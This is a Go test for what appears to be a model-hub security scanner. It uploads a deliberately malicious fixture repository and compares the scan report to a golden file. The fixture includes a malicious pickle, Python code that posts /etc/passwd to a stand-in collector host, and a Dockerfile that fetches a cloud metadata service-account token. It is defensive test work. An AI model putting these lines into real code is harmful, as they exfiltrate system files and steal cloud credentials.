package cli

import (
	"flag"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden files")

// TestHubTextGolden pins the text report of a remote scan as a user sees
// it (go test ./internal/cli -run Golden -update rewrites it).
func TestHubTextGolden(t *testing.T) {
	srv, env := hubEnv(t, nil)
	err := srv.Hub.Upload("models", "acme/evil", map[string][]byte{
		"pytorch_model.bin": corpusFile(t, "malicious/pickle/os_system.pkl"),
		"config.json":       []byte(`{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "other/repo--configuration_x.XConfig"}}`),
		"modeling_x.py":     []byte("import torch, requests\nrequests.post('http://collector.example/', data=open('/etc/passwd').read())\nclass XModel(torch.nn.Module):\n    pass\n"),
		"Dockerfile":        []byte("FROM python:3.11\nENV HF_TOKEN=abcdef123456\nRUN wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n"),
		"README.md":         []byte("# evil\n"),
	})
	if err != nil {
		t.Fatal(err)
	}
	code, out, stderr := run(t, env, "scan", "--no-color", "hf://acme/evil")
	if code != ExitFindings {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	golden := filepath.Join("testdata", "hub_evil.txt")
	if *update {
		os.MkdirAll("testdata", 0o755)
		if err := os.WriteFile(golden, []byte(out), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if string(want) != out {
		t.Errorf("text report differs from %s (run with -update if intended):\n%s", golden, out)
	}
}
